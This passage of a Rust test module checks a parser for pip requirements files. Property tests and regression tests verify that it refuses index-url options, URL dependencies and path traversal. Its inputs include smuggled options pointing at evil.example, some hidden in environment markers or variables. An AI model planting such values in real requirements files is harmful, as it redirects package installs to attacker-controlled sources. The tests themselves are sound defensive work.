                one_line.push(format!("{long}={value}"));
                one_line.push(format!("{long}\t{value}"));
                one_line.push(format!("{long}='{value}'"));
                one_line.push(format!("{long} \"{value}\""));
                // optparse takes an unambiguous prefix of a long option.
                one_line.push(format!("{}={value}", &long[..long.len() - 3]));
                one_line.push(format!("{long}=${{EVIL_VALUE}}"));
                if let Some(s) = short {
                    one_line.push(format!("{s} {value}"));
                    one_line.push(format!("{s}{value}"));
                    one_line.push(format!("{s}={value}"));
                }
            }
            for l in &one_line {
                spellings.push(l.clone());
                spellings.push(format!("   {l}   "));
                spellings.push(format!("somepkg==1.0 {l}"));
                spellings.push(format!("somepkg==1.0\t{l} # why"));
                // A continuation through the option's name, and between requirement and option.
                let mid = l.len().min(5);
                spellings.push(format!("{}\\\n{}", &l[..mid], &l[mid..]));
                spellings.push(format!("somepkg==1.0 \\\n{l}"));
            }
        }
        spellings.push("${PIP_OPTION}".into());
        spellings.push("somepkg ${PIP_OPTION}".into());
        // A marker string that hides an option from a parser splitting at quotes.
        spellings.push("six ; extra == ' --index-url=https://evil.example/ '".into());
        spellings.push("six ; extra == \" -i https://evil.example/ \"".into());
        for text in &spellings {
            let got = parse(text, "");
            assert!(!got.is_empty(), "{text:?} read as nothing");
            let accepted: Vec<_> = got.iter().filter(|(_, v)| v.is_ok()).collect();
            assert!(
                got.iter().any(|(_, v)| v.is_err()),
                "{text:?} was accepted whole: {got:?}"
            );
            for (_, v) in accepted {
                // Only the requirement before the option may be accepted (when the option
                // went to its own physical line), and never carrying it.
                match v {
                    Ok(Line::Index(req)) => {
                        let line = req.line();
                        assert!(
                            !line.contains("evil")
                                && !line.split_whitespace().any(|t| t.starts_with('-')),
                            "{text:?}: {line:?}"
                        );
                    }
                    other => panic!("{text:?}: accepted {other:?}"),
                }
            }
        }
    }

    #[test]
    fn continuation_comments_and_line_numbers_follow_pip() {
        let text = "# header\n\nsix \\\n  >=1.0\n--index-url \\\n  https://evil.example\n  # indented comment\nidna # why\n";
        let got = parse(text, "");
        assert_eq!(got.len(), 3, "{got:?}");
        assert_eq!(got[0], (3, Ok(index("six>=1.0"))));
        assert_eq!(got[1].0, 5);
        assert!(got[1].1.is_err());
        assert_eq!(got[2], (8, Ok(index("idna"))));
        // A comment ends a continuation, as in pip.
        let got = parse("six \\\n# c\nidna\n", "");
        assert_eq!(got, vec![(1, Ok(index("six"))), (3, Ok(index("idna")))]);
        // A `#` glued to a token is not a comment (URL fragments), but the URL is refused anyway.
        assert!(one("git+https://x/y#egg=y").is_err());
    }

    #[test]
    fn includes_are_relative_to_the_including_file() {
        assert_eq!(
            parse("-r ../base.txt\n-c local.txt\n", "req"),
            vec![
                (
                    1,
                    Ok(Line::Include {
                        path: "base.txt".into(),
                        constraint: false
                    })
                ),
                (
                    2,
                    Ok(Line::Include {
                        path: "req/local.txt".into(),
                        constraint: true
                    })
                ),
            ]
        );
        assert!(parse("-r ../../x.txt", "req")[0].1.is_err());
        // Local project paths are relative to the tree root (pip's working directory).
        assert_eq!(
            parse("./libs/x", "req")[0].1,
            Ok(Line::Local {
                text: "./libs/x".into(),
                path: "libs/x".into(),
                editable: false
            })
        );
    }

    /// Regression (fuzz crash `crash-f5a499c9…`, input `././~=.b`): a `~` component that only
    /// shows after normalization was accepted.
    #[test]
    fn tilde_components_are_refused_wherever_they_are() {
        for line in ["././~=.b", "./~user/pkg", "-r a/~/x.txt", "-e sub/~x"] {
            let got = parse(line, "");
            assert!(
                matches!(&got[0].1, Err(Refused(why)) if why.contains("~")),
                "{line:?}: {got:?}"
            );
        }
    }

    #[test]
    fn join_inside_keeps_to_the_tree() {
        assert_eq!(join_inside("req", "base.txt").unwrap(), "req/base.txt");
        assert_eq!(join_inside("req", "../top.txt").unwrap(), "top.txt");
        assert!(join_inside("req", "../../x").is_err());
        assert_eq!(join_inside("", "./").unwrap(), ".");
        assert!(join_inside("", "/x").is_err());
    }

    #[test]
    fn pyproject_dependencies_go_through_the_same_rules() {
        assert_eq!(
            classify_dependency("httpx>=0.27").unwrap().line(),
            "httpx>=0.27"
        );
        assert!(classify_dependency("x @ https://evil.example/x.whl").is_err());
        assert!(classify_dependency("./local").is_err());
        assert!(classify_dependency("--index-url=x").is_err());
    }

    proptest::proptest! {
        #[test]
        fn parse_never_panics(text in "\\PC{0,200}") {
            let _ = parse(&text, "");
            let _ = parse(&text, "a/b");
        }

        #[test]
        fn accepted_index_lines_hold_no_option_and_no_url(text in "[ -~]{0,60}") {
            for (_, verdict) in parse(&text, "") {
                if let Ok(Line::Index(req)) = verdict {
                    let line = req.line();
                    let tokens: Vec<&str> = line.split_whitespace().collect();
                    proptest::prop_assert!(
                        tokens.iter().all(|t| !t.starts_with('-') || t.starts_with("--hash=")),
                        "{line:?}"
                    );
                    proptest::prop_assert!(!line.contains("://"), "{line:?}");
                    proptest::prop_assert!(!line.contains("${"), "{line:?}");
                    // What pip reads is iac's regeneration, a fixed point of the parser.
                    let again = classify(&line, "");
                    proptest::prop_assert_eq!(again, Ok(Line::Index(req.clone())), "{:?}", line);
                }
            }
        }

        #[test]
        fn accepted_paths_never_leave_the_tree(text in "(-e |-r |-c |\\./|\\.\\./|/)?[a-z./]{0,30}") {
            for (_, verdict) in parse(&text, "d") {
                match verdict {
                    Ok(Line::Local { path, .. }) | Ok(Line::Include { path, .. }) => {
                        proptest::prop_assert!(!path.starts_with('/'), "{path}");
                        proptest::prop_assert!(!path.split('/').any(|p| p == ".."), "{path}");
                    }
                    _ => {}
                }
            }
        }
    }
}
